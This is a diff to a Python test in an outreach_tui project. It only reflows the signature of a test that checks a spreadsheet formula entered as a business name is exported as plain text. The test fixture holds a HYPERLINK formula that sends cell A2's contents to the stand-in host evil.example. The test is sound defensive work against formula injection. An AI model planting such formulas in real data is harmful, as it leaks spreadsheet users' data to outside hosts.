@@ -16,9 +16,7 @@ from outreach_tui.hub.storage import open_storage
 TYPED = '=HYPERLINK("http://evil.example/?"&A2,"Siti")'
 
 
-def test_a_formula_typed_as_a_business_name_is_handed_off_as_text(
-    db: str, tmp_path: Path
-) -> None:
+def test_a_formula_typed_as_a_business_name_is_handed_off_as_text(db: str, tmp_path: Path) -> None:
     mapping = load_handoff_mapping()
     with open_storage(db) as storage:
         Laptop(storage).register(business_name=TYPED)
